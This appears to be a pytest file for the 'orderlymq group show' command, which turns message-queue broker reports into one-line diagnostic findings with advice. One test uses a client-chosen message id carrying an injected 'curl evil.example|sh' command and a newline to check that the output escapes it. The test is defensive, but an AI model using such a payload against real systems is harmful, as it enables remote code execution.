"""`orderlymq group show` reports trouble."""

from typing import Any

from orderlymq.cli.findings import findings, lines

BLOCKED = {
    "group": "billing",
    "topic": "orders",
    "queue": 3,
    "offset": 17,
    "since": 1_700_000_000_000,
    "holder": "alice",
    "messageId": "ID1",
    "offsetId": "7F",
    "key": "order-7",
    "tries": 0,
}
FAILING = {
    "group": "billing",
    "topic": "orders",
    "messageId": "ID2",
    "offsetId": "7F",
    "key": None,
    "tries": 4,
    "dead": True,
    "lastFailed": 1,
}


def status(**watch: Any) -> dict[str, Any]:
    return {"watch": {"lag": [], **watch}}


def test_findings_of_all_brokers_are_gathered_and_others_left_out() -> None:
    """Law: findings of all brokers are merged for one group; the greatest age counts,
    and brokers without a report are skipped.
    """
    lag = [{"group": "billing", "topic": "orders", "messages": 5, "seconds": 12.5}]
    other = {**BLOCKED, "group": "shipping"}
    duplicate = {"clientId": "c", "addresses": ["a:1", "b:2"], "groups": ["billing", "x"]}

    found = findings(
        [
            status(lag=lag, blocked=[BLOCKED, other]),
            {"role": "a broker of RocketMQ"},
            status(lag=[{**lag[0], "seconds": 3.0}], duplicates=[duplicate]),
        ],
        "billing",
    )

    assert found["lagSeconds"] == 12.5
    assert found["blocked"] == [BLOCKED]
    assert found["duplicates"] == [duplicate]
    assert findings([{}], "billing")["lagSeconds"] is None


def test_each_finding_is_a_line_with_what_to_do() -> None:
    """Law: each finding is a line with message, key, time and holder, and what to do."""
    disagreeing = {"group": "billing", "members": ["a", "b"], "difference": "topic orders: * and x"}
    expiring = {
        "group": "billing",
        "topic": "orders",
        "queue": 1,
        "holder": "alice",
        "leftMillis": 9_400,
        "connected": False,
    }
    found = findings(
        [
            status(
                blocked=[BLOCKED],
                failing=[FAILING],
                expiring=[expiring],
                disagreeing=[disagreeing],
                duplicates=[{"clientId": "c", "addresses": ["a:1", "b:2"], "groups": ["billing"]}],
            )
        ],
        "billing",
    )

    said = lines(found)

    assert [line.split(":")[0] for line in said] == [
        "Members disagree",
        "Two clients with one id",
        "Blocked",
        "Failing",
        "Expiring",
    ]
    assert "a and b differ in topic orders: * and x" in said[0]
    assert "a:1 and b:2" in said[1]
    assert "message ID1, key order-7, held by alice" in said[2]
    assert "2023-11-14T22:13:20+00:00" in said[2]
    assert "failed 4 times, a dead letter" in said[3]
    assert "`orderlymq message show ID2 --topic orders`" in said[3]
    assert "ends in 9 s" in said[4]


def test_a_blocked_queue_shows_what_its_listener_said() -> None:
    """Law: a blocked queue shows the listener's tries, error and last call, or that the consumer does not report them."""
    told = {
        "listener": "its listener has failed 12 times, last with ValueError: no such order",
        "listenerCalled": 1_700_000_060_000,
    }

    (said,) = lines(findings([status(blocked=[{**BLOCKED, **told}])], "billing"))
    (unsaid,) = lines(findings([status(blocked=[BLOCKED])], "billing"))

    assert (
        "failed 12 times, last with ValueError: no such order, called last at 2023-11-14T22:14"
        in said
    )
    assert "its consumer reports nothing about its listener" in unsaid


def test_a_queue_that_nobody_has_locked_is_held_by_nobody() -> None:
    """Law: for a queue without a holder, the first advice is about the members, not about the message."""
    (said,) = lines(findings([status(blocked=[{**BLOCKED, "holder": None}])], "billing"))

    assert "held by nobody" in said
    members, _, message = said.partition("all must subscribe to the same topics")
    assert "skip" not in members
    assert "skip the message" in message


def test_a_holder_that_is_away_has_no_log_to_read() -> None:
    away = {"connected": False, "leaseMillis": 60_000, "listener": "its holder is not connected"}

    (said,) = lines(findings([status(blocked=[{**BLOCKED, **away}])], "billing"))

    assert "its holder is not connected. Another member takes over" in said
    assert "lease of 60 s ends" in said
    assert "log" not in said


def test_many_findings_do_not_hide_the_queues() -> None:
    """Law: at most ten findings are shown, with the number of the others."""
    found = findings([status(blocked=[BLOCKED] * 25)], "billing")

    assert len(lines(found)) == 11
    assert lines(found)[-1] == "And 15 more; --output json shows all."


def test_what_clients_choose_begins_no_line_and_no_command() -> None:
    """Law: ids chosen by clients cannot start a new line or a shell command."""
    hostile = "ID2;curl evil.example|sh\nBlocked: none"
    disagreeing = {
        "group": "billing",
        "members": ["a\nFailing: nothing", "b"],
        "difference": "topic orders: * and x",
    }

    said = lines(
        findings(
            [status(failing=[{**FAILING, "messageId": hostile}], disagreeing=[disagreeing])],
            "billing",
        )
    )

    assert [len(line.splitlines()) for line in said] == [1, 1]
    assert (
        r"`orderlymq message show 'ID2;curl evil.example|sh\x0aBlocked: none' --topic orders`"
        in said[1]
    )


def test_one_is_no_plural() -> None:
    (said,) = lines(findings([status(failing=[{**FAILING, "tries": 1}])], "billing"))

    assert "failed 1 time, a dead letter" in said


def test_a_listener_that_hangs_is_reported_with_its_call_and_the_way_out() -> None:
    """Law: a hanging listener is shown with its call and the way out (stack, restart, skip), not a reset."""
    told = {
        "listener": "its listener was called and has not returned",
        "listenerRunning": True,
        "listenerCalled": 1_700_000_060_000,
    }

    (said,) = lines(findings([status(blocked=[{**BLOCKED, **told}])], "billing"))

    assert "its listener was called at 2023-11-14T22:14:20+00:00 and has not returned." in said
    assert "Look at its stack in the console" in said
    assert "restart that process or skip the message" in said


def test_a_queue_of_lanes_is_not_to_be_reset() -> None:
    """Law: for a queue with lanes no reset is advised, because it would drop what all lanes owe."""
    (said,) = lines(findings([status(blocked=[{**BLOCKED, "byKey": True}])], "billing"))

    assert "The group consumes by key: look at its lanes" in said
    assert "skip the message" not in said
    assert "`orderlymq group reset`" not in said
